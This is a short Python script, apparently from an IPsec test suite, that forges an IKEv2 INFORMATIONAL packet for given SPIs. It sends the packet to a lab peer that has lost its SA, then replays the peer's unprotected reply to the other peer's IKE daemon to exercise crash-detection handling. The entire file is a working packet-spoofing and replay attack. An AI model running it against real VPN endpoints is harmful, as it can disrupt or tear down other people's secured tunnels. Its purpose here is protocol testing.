#!/usr/bin/python3
# Forge a protected INFORMATIONAL request for the IKE SPIs of west's
# IKE SA, send it to east (which has lost the SA), and replay east's
# unprotected answer to west's pluto.  usage: qcd-replay.py SPIi SPIr
import socket
import struct
import sys

spii, spir = bytes.fromhex(sys.argv[1]), bytes.fromhex(sys.argv[2])
# SK payload: generic header + octets standing in for IV, ciphertext
# and ICV, as long as a QCD taker's padded request (196 octets in all)
sk = struct.pack("!BBH", 0, 0, 196 - 28) + bytes(196 - 32)
# header: SPIs, next payload SK (46), version 2.0, INFORMATIONAL (37),
# flags I (0x08), Message ID 7
hdr = spii + spir + struct.pack("!BBBBII", 46, 0x20, 37, 0x08, 7, 28 + len(sk))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("192.1.2.45", 0))
s.settimeout(5)
s.sendto(hdr + sk, ("192.1.2.23", 500))
reply, _ = s.recvfrom(4096)
flags = reply[19]
print("east answered: %d octets, flags %s%s, Message ID %d, first payload %d" %
      (len(reply), "R" if flags & 0x20 else "", "I" if flags & 0x08 else "",
       struct.unpack("!I", reply[20:24])[0], reply[16]))
s.sendto(reply, ("192.1.2.45", 500))
print("replayed to west's pluto")
